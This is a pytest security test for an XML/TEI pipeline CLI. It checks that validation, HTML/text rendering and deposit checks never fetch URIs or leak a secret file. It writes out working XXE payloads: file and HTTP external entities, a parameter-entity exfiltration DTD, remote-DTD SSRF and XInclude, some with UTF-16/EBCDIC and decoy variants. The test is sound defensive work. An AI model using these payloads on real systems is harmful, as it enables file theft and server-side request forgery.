"""No XML file can make a command fetch a URI or read a local file (issue 19).

Each hostile file below tries it another way: an external entity (file: and http:), a parameter entity that reads a
secret and sends it to a server (the classic exfiltration DTD), a DOCTYPE naming a remote DTD (SSRF), XInclude, a
decoy DOCTYPE in a comment or processing instruction before the real one, and all of that in UTF-16 and EBCDIC.
Every command that reads XML runs on them (validate with every layer, html, text, deposit --check on a bag folder
and on its zip), against every validator this machine has (see conftest.validator_path), with a real HTTP server
on 127.0.0.1 and a real secret file. The server must receive no request and the secret must appear nowhere: not in
the output, not in any file written.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import main

from .conftest import SECRET

ROOT = Path(__file__).resolve().parents[2]
BASE_TEI = ROOT / "tei" / "000_ce4f38ee9e6d958d.xml"
XI = "http://www.w3.org/2001/XInclude"


def base_tei() -> str:
    """A committed, valid TEI document without its XML declaration."""
    text = BASE_TEI.read_text(encoding="utf-8")
    return text[text.index("?>") + 2:].lstrip("\n")


def with_body(tei: str, insert: str) -> str:
    """The TEI with ``insert`` at the start of its first <p>."""
    at = tei.index(">", tei.index("<p ", tei.index("<body"))) + 1
    return tei[:at] + insert + tei[at:]


def exfil_dtd(secret: Path, url: str) -> str:
    """A DTD whose parameter entities read the secret and request a URL carrying it."""
    return (f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
            f'<!ENTITY % eval "<!ENTITY &#x25; send SYSTEM \'{url}?%file;\'>">\n%eval;\n%send;\n')


def cases(server, secret: Path) -> dict[str, bytes]:
    """Hostile files by name; each names the server with its own path (/<name>/...), so a request says who made it."""
    tei = base_tei()
    decl = '<?xml version="1.0" encoding="{}"?>\n'
    server.dtd = exfil_dtd(secret, server.url("leak"))
    remote = {name: server.url(f"{name}/exfil.dtd") for name in ("ssrf", "decoy", "decoy-pi", "utf16", "ebcdic",
                                                                  "utf16-decoy", "ebcdic-decoy", "pe")}
    text = {
        "xxe-file": decl.format("UTF-8") + f'<!DOCTYPE TEI [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>\n'
                    + with_body(tei, "&leak;"),
        "xxe-http": decl.format("UTF-8") + f'<!DOCTYPE TEI [<!ENTITY leak SYSTEM "{server.url("xxe-http/x")}">]>\n'
                    + with_body(tei, "&leak;"),
        "pe": decl.format("UTF-8") + f'<!DOCTYPE TEI [\n<!ENTITY % remote SYSTEM "{remote["pe"]}">\n%remote;\n]>\n'
              + tei,
        "ssrf": decl.format("UTF-8") + f'<!DOCTYPE TEI SYSTEM "{remote["ssrf"]}">\n' + tei,
        "decoy": decl.format("UTF-8") + f'<!-- <!DOCTYPE decoy> -->\n<!DOCTYPE TEI SYSTEM "{remote["decoy"]}">\n'
                 + tei,
        "decoy-pi": decl.format("UTF-8") + f'<?decoy <!DOCTYPE decoy>?>\n<!DOCTYPE TEI SYSTEM "{remote["decoy-pi"]}">\n'
                    + tei,
        "xinclude-http": decl.format("UTF-8")
                         + with_body(tei, f'<xi:include xmlns:xi="{XI}" href="{server.url("xinclude-http/x.xml")}"/>'),
        "xinclude-file": decl.format("UTF-8")
                         + with_body(tei, f'<xi:include xmlns:xi="{XI}" href="{secret.as_uri()}" parse="text"/>'),
    }
    data = {name: value.encode("utf-8") for name, value in text.items()}
    for name, codec, label in (("utf16", "utf-16", "UTF-16"), ("ebcdic", "cp037", "IBM037")):
        data[name] = (decl.format(label) + f'<!DOCTYPE TEI SYSTEM "{remote[name]}">\n' + tei).encode(codec, "xmlcharrefreplace")
        data[name + "-decoy"] = (decl.format(label) + '<!-- <!DOCTYPE decoy> -->\n'
                                 f'<!DOCTYPE TEI SYSTEM "{remote[name + "-decoy"]}">\n' + tei).encode(codec, "xmlcharrefreplace")
    return data


CASE_NAMES = ("xxe-file", "xxe-http", "pe", "ssrf", "decoy", "decoy-pi", "xinclude-http", "xinclude-file", "utf16",
              "utf16-decoy", "ebcdic", "ebcdic-decoy")


def write_cases(folder: Path, server, secret: Path, names=CASE_NAMES) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in cases(server, secret).items():
        if name in names:
            path = folder / f"{name}.xml"
            path.write_bytes(data)
            paths.append(path)
    return sorted(paths)


def run(*args) -> tuple[int, str]:
    res = CliRunner().invoke(main, [str(a) for a in args])
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        raise AssertionError(f"traceback for {args}: {res.exception!r}\n{res.output}")
    return res.exit_code, res.output


def assert_nothing_leaked(server, output: str, *folders: Path) -> None:
    assert server.requests == [], f"the server was asked: {server.requests}"
    assert SECRET not in output, output
    assert "Traceback" not in output, output
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file() and "secret" not in path.parts:
                assert SECRET.encode() not in path.read_bytes(), path


@pytest.mark.parametrize("name", CASE_NAMES)
def test_validate_alone_fetches_nothing(name, validator_path, server, secret, tmp_path):
    """Each file alone (as jing may start on a lone file before Python has parsed it)."""
    path, = write_cases(tmp_path / "in", server, secret, (name,))
    code, output = run("validate", path)
    assert code in (0, 1), output
    assert_nothing_leaked(server, output)


@pytest.mark.parametrize("layer", ["tei_all", "project", "schematron"])
def test_validate_each_layer_fetches_nothing(layer, validator_path, server, secret, tmp_path):
    paths = write_cases(tmp_path / "in", server, secret)
    code, output = run("validate", "--layer", layer, "--jobs", "2", *paths)
    assert code == 1, output
    assert_nothing_leaked(server, output)


@pytest.mark.parametrize("command", ["html", "text"])
@pytest.mark.parametrize("name", CASE_NAMES)
def test_editions_fetch_nothing(command, name, server, secret, tmp_path):
    path, = write_cases(tmp_path / "in", server, secret, (name,))
    code, output = run(command, path, "-o", tmp_path / "out", "-q")
    assert code in (0, 1), output
    assert_nothing_leaked(server, output, tmp_path / "out")


def hostile_bag(folder: Path, tei_files: list[Path]) -> Path:
    """A BagIt bag whose data/tei holds the hostile files (checksums correct: the check goes on to validate)."""
    import bagit

    bag = folder / "bag"
    (bag / "tei").mkdir(parents=True)
    for path in tei_files:
        shutil.copy(path, bag / "tei" / path.name)
    bagit.make_bag(str(bag), checksums=["sha256"])
    return bag


@pytest.mark.parametrize("packed", ["folder", "zip"])
def test_deposit_check_fetches_nothing(packed, validator_path, server, secret, tmp_path):
    bag = hostile_bag(tmp_path / "deposit", write_cases(tmp_path / "in", server, secret))
    target = bag
    if packed == "zip":
        target = tmp_path / "edition.zip"
        with zipfile.ZipFile(target, "w") as zf:
            for path in sorted(bag.rglob("*")):
                zf.write(path, "edition/" + path.relative_to(bag).as_posix())
    code, output = run("deposit", "--check", target)
    assert code == 1, output
    assert re.search(r"decoy\.xml", output), output  # the hostile files were looked at
    assert_nothing_leaked(server, output)
